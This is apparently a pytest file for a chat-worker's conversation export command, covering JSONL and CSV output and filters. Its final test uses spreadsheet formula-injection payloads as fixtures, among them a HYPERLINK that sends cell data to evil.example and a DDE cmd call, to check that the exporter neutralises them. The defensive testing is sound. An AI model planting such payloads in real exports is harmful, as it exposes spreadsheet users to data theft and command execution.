"""Reviewers export stored conversations as JSON lines or CSV, filtered."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest

from dialogue.spec import WorkerSpec
from tests.conftest import ROOT
from tests.support.talk import MONDAY_MORNING, Talk, engine_for, settings_for


async def _populate(spec: WorkerSpec, url: str) -> None:
    async with engine_for(spec, url) as engine:
        done = Talk(engine, "done-1", channel="console")
        await done.start()
        for line in ["table for 2 tomorrow at 8pm", "Ana Silva", "yes"]:
            await done.say(line)
        left = Talk(engine, "left-1", channel="sms", start=MONDAY_MORNING + timedelta(days=1))
        await left.say("hi")
        await left.say("tomorrow")
        await left.say("bye")
        open_ = Talk(engine, "open-1", channel="sms", start=MONDAY_MORNING + timedelta(days=2))
        await open_.say("table for 6")


def run_export(url: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ}
    env.pop("DATABASE_URL", None)
    settings = settings_for(url)
    if settings.database_url:
        env["DATABASE_URL"] = settings.database_url
    else:
        env["CHANNEL_WORKER_VAR"] = str(settings.var_dir)
    return subprocess.run([sys.executable, "-m", "worker.cli", "export", *args], capture_output=True, text=True,
                          cwd=ROOT, env=env, timeout=120)


@pytest.mark.parametrize("database_url", ["sqlite", "postgres"], indirect=True)
async def test_jsonl_export_has_one_conversation_per_line_with_its_turns(restaurant: WorkerSpec, database_url: str) -> None:
    await _populate(restaurant, database_url)
    result = run_export(database_url, "--format", "jsonl")
    assert result.returncode == 0, result.stderr
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["id"] for r in records] == ["done-1", "left-1", "open-1"]
    done = records[0]
    assert done["outcome"] == "completed" and done["worker"] == "restaurant_booking"
    assert done["fields"]["first_name"]["value"] == "Ana"
    assert [t["role"] for t in done["turns"]][:3] == ["worker", "user", "worker"]
    assert done["turns"][1]["text"] == "table for 2 tomorrow at 8pm"
    assert records[1]["outcome"] == "abandoned" and records[2]["outcome"] is None


@pytest.mark.parametrize("database_url", ["sqlite", "postgres"], indirect=True)
async def test_filters_by_outcome_channel_and_time(restaurant: WorkerSpec, database_url: str) -> None:
    await _populate(restaurant, database_url)
    by_outcome = run_export(database_url, "--outcome", "completed")
    assert [json.loads(x)["id"] for x in by_outcome.stdout.splitlines()] == ["done-1"]
    by_channel = run_export(database_url, "--channel", "sms")
    assert [json.loads(x)["id"] for x in by_channel.stdout.splitlines()] == ["left-1", "open-1"]
    since = (MONDAY_MORNING + timedelta(days=1, minutes=-1)).isoformat()
    by_time = run_export(database_url, "--since", since, "--channel", "sms", "--outcome", "abandoned")
    assert [json.loads(x)["id"] for x in by_time.stdout.splitlines()] == ["left-1"]


async def test_csv_export_has_one_row_per_event(restaurant: WorkerSpec, tmp_path: Path) -> None:
    url = str(tmp_path / "db")
    await _populate(restaurant, url)
    out = tmp_path / "export.csv"
    result = run_export(url, "--format", "csv", "--output", str(out), "--outcome", "completed")
    assert result.returncode == 0, result.stderr
    assert "wrote 1 conversations" in result.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert {r["conversation_id"] for r in rows} == {"done-1"}
    assert [r["direction"] for r in rows] == ["system", "out", "in", "out", "in", "out", "in", "out"]
    assert json.loads(rows[-1]["fields"])["people"] == 2
    assert rows[-1]["outcome"] == "completed"


def test_a_bad_since_is_a_clear_error(tmp_path: Path) -> None:
    result = run_export(str(tmp_path / "db"), "--since", "last tuesday")
    assert result.returncode == 2 and "not an ISO-8601 time" in result.stderr


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "   =1+1", "\n=1+1"]


async def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(restaurant: WorkerSpec, tmp_path: Path) -> None:
    url = str(tmp_path / "db")
    async with engine_for(restaurant, url) as engine:
        talk = Talk(engine, "formulas")
        for line in FORMULAS:
            await talk.say(line)
        stored = [e.text for e in await engine.store.events("formulas") if e.direction == "in"]
    out = tmp_path / "export.csv"
    result = run_export(url, "--format", "csv", "--output", str(out))
    assert result.returncode == 0, result.stderr
    with out.open(newline="", encoding="utf-8") as f:  # CR inside a quoted cell stays a CR
        rows = list(csv.DictReader(f))
    said = [r["text"] for r in rows if r["direction"] == "in"]
    # Each starts with a single quote, so a spreadsheet shows it as text; the rest is as said.
    assert said == ["'" + text for text in stored] and len(said) == len(FORMULAS)
    assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    # JSON lines are data, not a spreadsheet: the texts stay as stored.
    turns = json.loads(run_export(url, "--format", "jsonl").stdout)["turns"]
    assert [t["text"] for t in turns if t["role"] == "user"] == stored
